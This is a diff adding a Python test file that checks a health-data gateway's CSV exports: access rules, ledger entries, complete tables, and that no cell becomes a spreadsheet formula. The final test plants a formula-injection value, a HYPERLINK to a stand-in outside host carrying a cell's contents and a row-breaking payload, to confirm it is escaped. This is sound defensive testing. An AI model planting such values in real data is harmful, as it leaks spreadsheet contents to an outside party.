@@ -1,0 +1,103 @@
+"""A table is taken away as CSV by whoever may see its page: whole, with an entry of the ledger, and never as a formula."""
+
+import csv
+import io
+import json
+
+from hypothesis import given
+from hypothesis import strategies as st
+
+from consent.document import Table
+from gateway.console.routes import EXPORTED, EXPORTS, ROUTES
+from gateway.console.spreadsheet import csv_of
+from gateway.store.schema import consent, delivery, ledger_entry, message
+from tests.console.site import ALEX, Answer, Site
+
+FORMULAS = ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "\u00a0=1", "\uff1d1", "\uff201")
+
+
+def read(text: str) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
+
+
+@given(st.lists(st.tuples(st.text(), st.sampled_from(FORMULAS)), max_size=5))
+def test_no_cell_is_a_formula_and_no_cell_is_lost(rows: list[tuple[str, str]]) -> None:
+    made = csv_of(Table(caption="c", columns=("One", "Two"), rows=tuple(rows))).decode("utf-8")
+    back = read(made)
+    assert back[0] == ["One", "Two"]
+    for written, found in zip(rows, back[1:], strict=True):
+        for cell, shown in zip(written, found, strict=True):
+            kept = cell.encode("utf-8", "replace").decode()
+            assert shown in (kept, f"'{kept}")
+            assert not shown.lstrip(" \u00a0").startswith(("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff20"))
+    assert read("=1\r\n")[0][0].startswith("="), "sabotage: without the apostrophe it would be one"
+
+
+def take(site: Site, name: str, path: str) -> Answer:
+    answer = site.as_(name, "GET", f"{EXPORTS}{path}")
+    assert answer.status == 200, path
+    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
+    assert answer.headers["content-disposition"].startswith('attachment; filename="throughgate-')
+    assert answer.headers["content-security-policy"].startswith("default-src 'none'")
+    return answer
+
+
+def exports(site: Site) -> list[dict[str, str]]:
+    found = [json.loads(row.body) for row in site.rows(ledger_entry)]
+    return [each["facts"] for each in found if each["event"] == "exported"]
+
+
+def test_each_table_is_taken_away_whole_with_its_entry(site: Site) -> None:
+    path = site.as_(
+        "ines", "POST", "/console/disclosures", {"number": ALEX.nhs_number, "purpose": "audit", "reason": "yearly"}
+    ).headers["location"]
+    handle = path.rpartition("/")[2]
+    assert site.as_("ines", "GET", f"{EXPORTS}disclosures/{handle}").status == 404, "nothing before a second person"
+    assert site.as_("cleo", "POST", path, {"answer": "yes"}).status == 303
+    assert site.as_("ivor", "GET", f"{EXPORTS}disclosures/{handle}").status == 404, "another's handle"
+    before, held = len(exports(site)), site.ids(delivery, state="held")[0]
+    own = [row.id for row in site.rows(delivery) if row.person_id == site.rows(delivery)[0].person_id]
+    shows = {
+        "work": [held, "someone may be without care"],
+        "disclosures": ["ines", "cleo", "A planned audit"],
+        f"disclosures/{handle}": [*own, "handover", "identifier-system"],
+        "flows": ["northfell", "handover"],
+        "letters": site.ids(delivery),
+        "letters?state=held": [held],
+        "agreements": ["handover", "correction"],
+        "consents": site.ids(consent),
+        "acts": ["logged-in", "search-approved", "ines"],
+        "staff": ["gwen", "caldicott-guardian"],
+    }
+    pages = {route.path.removeprefix(EXPORTS).replace("{id}", handle) for route in ROUTES if route.takes}
+    assert pages == {each.partition("?")[0] for each in shows}
+    assert len(pages) == len(EXPORTED)
+    for where, texts in shows.items():
+        rows = read(take(site, "ines", where).text)
+        assert len({len(row) for row in rows}) == 1, where
+        text = "\n".join("\t".join(row) for row in rows)
+        assert not [each for each in texts if each not in text], where
+        assert ALEX.nhs_number not in text
+        assert ALEX.family not in text
+        page = site.as_("ines", "GET", f"/console/{where}")
+        assert f'href="{EXPORTS}{where}"' in page.text, where
+    assert len(read(take(site, "ines", "letters?state=held").text)) == 1 + len(site.ids(delivery, state="held"))
+    made = exports(site)[before:]
+    assert {each["page"] for each in made} == {f"export-{name}" for name in EXPORTED}
+    assert [each["about"] for each in made if "about" in each] == [handle]
+    assert len({each["staff"] for each in made}) == 1
+
+
+def test_a_hostile_cell_is_text(site: Site) -> None:
+    """The last of the file: it spoils the rows."""
+    hostile = '=HYPERLINK("http://elsewhere.example/?"&A1,"x")\r\n"+1'
+
+    def spoil(c: object) -> None:
+        for column in (message.c.client, delivery.c.recipient, delivery.c.letter):
+            c.execute(column.table.update().values({column.name: hostile}))  # type: ignore[attr-defined]  # a connection, in a test
+
+    site.line.gateway.store.write(spoil)
+    for where in ("letters", "flows"):
+        rows = read(take(site, "ines", where).text)
+        assert any(f"'{hostile}" in row for row in rows[1:]), where
+        assert not [cell for row in rows for cell in row if cell.startswith("=")]
